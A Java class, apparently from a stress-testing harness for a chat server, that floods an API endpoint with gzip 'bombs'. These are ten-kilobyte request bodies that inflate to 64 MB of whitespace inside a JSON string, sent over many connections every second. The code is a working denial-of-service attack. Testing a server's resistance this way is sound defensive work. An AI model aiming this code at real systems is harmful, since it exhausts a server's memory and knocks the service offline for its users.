package chat.maru.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;

/** Bodies of some ten kilobytes that inflate to tens of megabytes. */
final class GzipBombs implements Attack {

	private static final int AT_ONCE = 16;

	private static final int INFLATED = 64 * 1024 * 1024;

	@Override
	public void run(URI server, Duration time) throws IOException {
		byte[] body = compressed();
		byte[] head = ("POST /api/guests HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
				+ "Content-Encoding: gzip\r\nContent-Length: " + body.length + "\r\n\r\n")
			.getBytes(StandardCharsets.US_ASCII);
		try (Attackers attackers = new Attackers(server)) {
			Attackers.everySecond(time, () -> {
				attackers.close();
				for (int i = 0; i < AT_ONCE; i++) {
					attackers.open(2);
				}
				attackers.send(head);
				attackers.send(body);
			});
		}
	}

	/** A JSON text that starts with a lot of white space. */
	private static byte[] compressed() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		byte[] spaces = new byte[64 * 1024];
		Arrays.fill(spaces, (byte) ' ');
		try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
			gzip.write("{\"name\":\"".getBytes(StandardCharsets.US_ASCII));
			for (int written = 0; written < INFLATED; written += spaces.length) {
				gzip.write(spaces);
			}
		}
		return bytes.toByteArray();
	}

	@Override
	public String toString() {
		return "gzip bombs";
	}

}
